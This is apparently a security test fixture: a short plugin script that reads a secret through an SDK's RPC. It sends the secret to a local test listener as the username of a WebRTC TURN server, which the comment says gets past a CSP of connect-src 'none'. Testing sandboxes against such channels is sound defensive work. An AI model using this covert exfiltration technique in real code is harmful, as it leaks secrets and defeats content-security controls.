// The page's ?page=pNNNNN names the UDP port of the test's listener. The
// plugin's data goes out as the TURN username, past connect-src 'none'.
MaidSDK.ready(async function () {
  var out = document.getElementById("out");
  try {
    var port = (MaidSDK.getContext().page || "").replace(/^p/, "");
    var r = await MaidSDK.rpc("secret", {});
    var pc = new RTCPeerConnection({ iceServers: [{ urls: "turn:127.0.0.1:" + port + "?transport=udp", username: r.secret, credential: "x" }] });
    pc.createDataChannel("x");
    await pc.setLocalDescription(await pc.createOffer());
    out.textContent = "sent";
  } catch (e) {
    out.textContent = "failed: " + e;
  }
});
